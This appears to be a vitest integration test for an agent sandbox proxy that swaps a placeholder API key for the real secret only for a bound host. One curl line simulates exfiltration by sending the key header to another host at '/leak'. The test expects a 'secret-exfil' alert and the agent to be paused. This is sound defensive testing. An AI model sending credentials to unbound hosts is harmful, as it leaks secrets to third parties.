/**
 * Header injection end to end with a real bubblewrap sandbox: curl inside holds only the
 * placeholder and trusts the agent's CA through the bundle mounted at the system path; the
 * loopback HTTPS test server receives the real value. Loopback only.
 */
import { existsSync } from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { installHelpers, sandboxGlue } from '../../../src/core/egress/glue.js';
import { compilePolicy, parseRules } from '../../../src/core/policy/index.js';
import { prepareSandbox } from '../../../src/core/sandbox/plan.js';
import { caBundle, caBundleEnv } from '../../../src/core/vault/ca-bundle.js';
import { createAgentCa } from '../../../src/core/vault/ca.js';
import { newPlaceholder } from '../../../src/core/vault/inject.js';
import { makeWorld, runPlan, type World } from '../sandbox/helpers.js';
import { harness, type Harness } from './harness.js';

const canRun = existsSync('/usr/bin/bwrap') && existsSync('/usr/bin/socat') && existsSync('/usr/bin/curl');
const BUNDLE = '/etc/ssl/certs/ca-certificates.crt';

describe.skipIf(!canRun)('header secrets from inside a real sandbox', () => {
  const upstreamCa = createAgentCa('test-upstream');
  let h: Harness;
  let world: World;
  let servers: https.Server[];
  const seen: { name: string; auth: string | undefined }[] = [];

  async function serve(name: string): Promise<number> {
    const leaf = upstreamCa.issue(name);
    const s = https.createServer({ key: leaf.keyPem, cert: leaf.certPem }, (req, res) => {
      seen.push({ name, auth: req.headers.authorization });
      res.end(`hello from ${name}\n`);
    });
    servers.push(s);
    await new Promise<void>((r) => s.listen(0, '127.0.0.1', () => r()));
    return (s.address() as AddressInfo).port;
  }

  beforeEach(async () => {
    h = harness({ upstreamCa: [upstreamCa.certPem] });
    servers = [];
    seen.length = 0;
    h.names.set('api.bound.test', [{ address: '127.0.0.1', family: 4 }]);
    h.names.set('other.test', [{ address: '127.0.0.1', family: 4 }]);
    world = await makeWorld('tester');
  });
  afterEach(async () => {
    for (const s of servers) {
      s.closeAllConnections();
      s.close();
    }
    await h.cleanup();
    await world.dispose();
  });

  it('curl inside sends the placeholder; the bound server gets the value, another host gets the placeholder and the agent is paused', async () => {
    const P = await serve('api.bound.test');
    const Q = await serve('other.test');
    const secret = 'sk-inside-real-value-42';
    const placeholder = newPlaceholder();
    const agentCa = createAgentCa('tester');
    const text = `allow net api.bound.test:${P}\nallow net 127.0.0.1:${P}\nallow net other.test:${Q}\nallow net 127.0.0.1:${Q}`;
    const { socketPath } = await h.egress.open({
      agent: 'tester', socketDir: path.join(h.dir, 'run', 'tester'), policy: compilePolicy(parseRules(text).rules), mode: 'proxy',
      secrets: { bindings: [{ name: 'API_KEY', hosts: ['api.bound.test'], header: 'Authorization: Bearer {}', placeholder, value: secret }], ca: agentCa },
    });
    const helperDir = path.join(h.dir, 'helpers');
    await installHelpers(helperDir);
    const glue = sandboxGlue({ socketDir: path.dirname(socketPath), helperDir, network: true });
    const script = [
      `curl -sS --max-time 5 -H "Authorization: Bearer $API_KEY" https://api.bound.test:${P}/inside; echo "A=$?"`,
      `curl -sS --max-time 5 -H "Authorization: Bearer $API_KEY" https://other.test:${Q}/leak; echo "B=$?"`,
      'echo "KEY=$API_KEY"',
    ].join('\n');
    const plan = await prepareSandbox(world.spec({
      command: glue.wrapCommand(['/bin/sh', '-c', script]),
      extraBinds: glue.extraBinds,
      extraEnv: { ...glue.extraEnv, ...caBundleEnv(BUNDLE), API_KEY: placeholder },
      extraPath: glue.extraPath,
      extraFiles: [{ dest: BUNDLE, content: caBundle(agentCa.certPem), mode: 0o444 }],
    }));
    const r = await runPlan(plan);
    expect(r.stdout, r.stderr).toContain('hello from api.bound.test');
    expect(r.stdout).toContain('A=0');
    expect(r.stdout).toContain('hello from other.test');
    expect(r.stdout).toContain(`KEY=${placeholder}`);
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(seen).toEqual([
      { name: 'api.bound.test', auth: `Bearer ${secret}` },
      { name: 'other.test', auth: `Bearer ${placeholder}` },
    ]);
    expect(h.ofKind('alert', 'tester')).toMatchObject([{ type: 'secret-exfil', secrets: ['API_KEY'] }]);
    expect(h.paused.map((x) => x.agent)).toEqual(['tester']);
    expect(h.dials.every((d) => d.address === '127.0.0.1')).toBe(true);
  });
});
